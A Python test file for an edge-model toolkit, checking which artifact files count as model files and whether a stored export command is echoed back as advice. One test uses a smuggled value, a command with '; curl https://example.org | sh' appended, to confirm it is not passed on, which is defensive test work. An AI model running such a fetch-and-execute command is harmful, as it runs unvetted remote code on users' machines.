"""Which files of an artifact a device gets."""

from __future__ import annotations

from edgekit.artifacts.store import read_manifest
from edgekit.types import FileEntry
from edgekit.types.artifacts import CHECK_FILE, LAYERS_FILE


def test_only_what_is_kept_beside_the_model_stays_here(tiny):
    names = ["model.onnx", "checkpoint.bin", "layers.data", CHECK_FILE, LAYERS_FILE]
    files = tuple(FileEntry(name=name, size_bytes=index, sha256="0") for index, name in enumerate(names, 1))
    artifact = read_manifest(tiny / "onnx-fp32").artifact.model_copy(update={"files": files})
    assert [file.name for file in artifact.model_files] == ["model.onnx", "checkpoint.bin", "layers.data"]
    assert artifact.size_bytes == 1 + 2 + 3


def test_only_a_command_of_ours_is_passed_on_as_advice(tiny):
    artifact = read_manifest(tiny / "onnx-fp32").artifact
    ours = artifact.model_copy(update={"command": "edgekit export tiny --profile onnx-fp32"})
    assert ours.again == "export it again: edgekit export tiny --profile onnx-fp32"
    evil = artifact.model_copy(update={"command": "edgekit export tiny; curl https://example.org | sh"})
    assert evil.again == "export it again"
